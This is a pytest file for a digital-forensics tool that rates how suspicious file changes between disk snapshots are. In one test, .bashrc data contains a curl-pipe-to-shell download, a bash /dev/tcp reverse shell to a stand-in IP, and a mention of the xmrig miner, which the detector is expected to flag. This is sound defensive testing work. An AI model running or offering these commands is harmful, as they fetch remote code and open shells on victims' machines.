# Copyright (c) 2026 The dfir.aws authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""How suspicious a change is: what depends on when the older snapshot was made, and what is ordinary."""

from __future__ import annotations

import stat
from typing import Any

import pytest
from ansible_collections.dfir.aws.plugins.module_utils.forensics.entry_walk import FileEntry
from ansible_collections.dfir.aws.plugins.module_utils.triage.compare_entries import Change, match
from ansible_collections.dfir.aws.plugins.module_utils.triage.compare_weigh import Context, weigh, weigh_lines

SECOND = 10**9
SINCE = 1_700_000_000 * SECOND
BEFORE, AFTER = SINCE - SECOND, SINCE + SECOND


def entry(path: str, mode: int = 0o644, *, kind: int = stat.S_IFREG, inode: int = 12, **more: Any) -> FileEntry:
    times = {"mtime": BEFORE, "ctime": BEFORE, "btime": BEFORE + 7, "size": 5, **more}
    return FileEntry(path.encode(), inode, kind | mode, **times)


def weighed(change: Change, **context: Any) -> tuple[str, str]:
    weigh(change, Context(None, None, SINCE, **context))
    return change.severity, "; ".join(change.reasons)


@pytest.mark.parametrize(("path", "mode", "more", "severity"), [
    ("/opt/x", 0o755, {"ctime": AFTER}, "medium"),  # a program that says that it is older than the older snapshot
    ("/opt/x", 0o644, {"ctime": AFTER}, "info"),  # as any file from an archive does
    ("/opt/x", 0o755, {"ctime": AFTER, "mtime": AFTER}, "info"),
    ("/etc/ld.so.preload", 0o644, {"ctime": AFTER, "mtime": AFTER}, "high"),
    ("/home/a/.ssh/authorized_keys", 0o600, {"ctime": AFTER, "mtime": AFTER}, "medium"),
    ("/var/www/shop/.x.php", 0o644, {"ctime": AFTER, "mtime": AFTER}, "medium"),
    ("/var/www/shop/x.png", 0o644, {"ctime": AFTER, "mtime": AFTER}, "info"),
    ("/tmp/x", 0o755, {"ctime": AFTER, "mtime": AFTER}, "medium"),
    ("/tmp/x", 0o644, {"ctime": AFTER, "mtime": AFTER}, "info"),
    ("/opt/x", 0o4755, {"ctime": AFTER, "mtime": AFTER}, "high")])
def test_what_came_in_between(path: str, mode: int, more: dict[str, Any], severity: str) -> None:
    assert weighed(Change("added", path.encode(), new=entry(path, mode, **more)))[0] == severity


@pytest.mark.parametrize(("path", "live", "severity"), [
    ("/var/lib/mysql/ibdata1", False, "high"), ("/var/lib/mysql/ibdata1", True, "medium"),
    ("/etc/cron.d/job", True, "high")])
def test_a_running_system_writes_times_late_but_not_those_of_programs(path: str, live: bool, severity: str) -> None:
    change = Change("changed", path.encode(), entry(path), entry(path), content="other")
    told = weighed(change, live=live)
    assert told[0] == severity and ("last moments" in told[1]) == live


@pytest.mark.parametrize(("change", "severity"), [
    (Change("changed", b"/var/log/syslog", entry("/var/log/syslog", size=900),
            entry("/var/log/syslog", size=90, mtime=AFTER, ctime=AFTER), content="other"), "high"),
    (Change("changed", b"/var/log/syslog", entry("/var/log/syslog", size=90),
            entry("/var/log/syslog", size=900, mtime=AFTER, ctime=AFTER), content="other"), "info"),
    (Change("changed", b"/var/log/syslog", entry("/var/log/syslog", size=900),  # rotated: a new file under the name
            entry("/var/log/syslog", size=90, inode=13, mtime=AFTER, ctime=AFTER), content="other"), "info"),
    (Change("removed", b"/var/log/wtmp", entry("/var/log/wtmp")), "medium"),
    (Change("metadata", b"/opt/x", entry("/opt/x"), entry("/opt/x", 0o755, ctime=AFTER), content="same"), "low"),
    (Change("metadata", b"/opt/x", entry("/opt/x"), entry("/opt/x", mtime=AFTER, ctime=AFTER), content="same"),
     "info")])
def test_traces_and_rights(change: Change, severity: str) -> None:
    assert weighed(change)[0] == severity


def test_only_lines_that_are_new_are_looked_at() -> None:
    change = Change("changed", b"/root/.bashrc", entry("/root/.bashrc"), entry("/root/.bashrc"))
    weigh_lines(change, b"curl http://198.51.100.7/x | sh\n", b"curl http://198.51.100.7/x | sh\nls\n")
    assert (change.severity, change.excerpt) == ("info", "+ ls")
    weigh_lines(change, b"ls\n", b"ls\nbash -i >& /dev/tcp/198.51.100.7/443 0>&1\n")
    assert change.severity == "high" and "opens a shell to another machine" in change.reasons[0]
    binary = Change("changed", b"/usr/bin/x", entry("/usr/bin/x"), entry("/usr/bin/x"))
    weigh_lines(binary, b"", b"\x7fELF\0xmrig")
    assert (binary.excerpt, binary.severity) == ("", "info")


def test_what_lies_below_a_folder_that_cannot_be_read_is_neither_added_nor_removed() -> None:
    folder = entry("/d", kind=stat.S_IFDIR, inode=2)
    lost = FileEntry(b"/d", 2, stat.S_IFDIR, problem="folder")
    whole, broken = [folder, entry("/d/a"), entry("/d/b/c", inode=14)], [folder, lost]
    for before, after in ((whole, broken), (broken, whole)):
        found = match(before, after)
        assert found.changes == [] and found.broken == 2


def test_an_inode_that_was_used_again_is_no_renamed_file() -> None:
    found = match([entry("/a")], [entry("/b", btime=AFTER + 3)])
    assert sorted(change.kind for change in found.changes) == ["added", "removed"]
    moved = match([entry("/a")], [entry("/b")])
    assert [(change.kind, change.path) for change in moved.changes] == [("renamed", b"/b")]
    whole_seconds = match([entry("/a", btime=BEFORE)], [entry("/b", btime=BEFORE, size=6)])
    assert sorted(change.kind for change in whole_seconds.changes) == ["added", "removed"]


def test_what_moved_along_with_its_folder_is_counted() -> None:
    def folder(path: str, inode: int) -> FileEntry:
        return entry(path, 0o755, kind=stat.S_IFDIR, inode=inode)

    before = [folder("/old", 20), entry("/old/a", inode=21), entry("/old/b", inode=22)]
    after = [folder("/new", 20), entry("/new/a", inode=21), entry("/new/b", inode=22, size=9, mtime=AFTER)]
    found = match(before, after)
    assert {(change.kind, change.path) for change in found.changes} == {("renamed", b"/new"), ("renamed", b"/new/b")}
    assert found.moved_along == 1 and [now.path for now in found.alike] == [b"/new/a"]
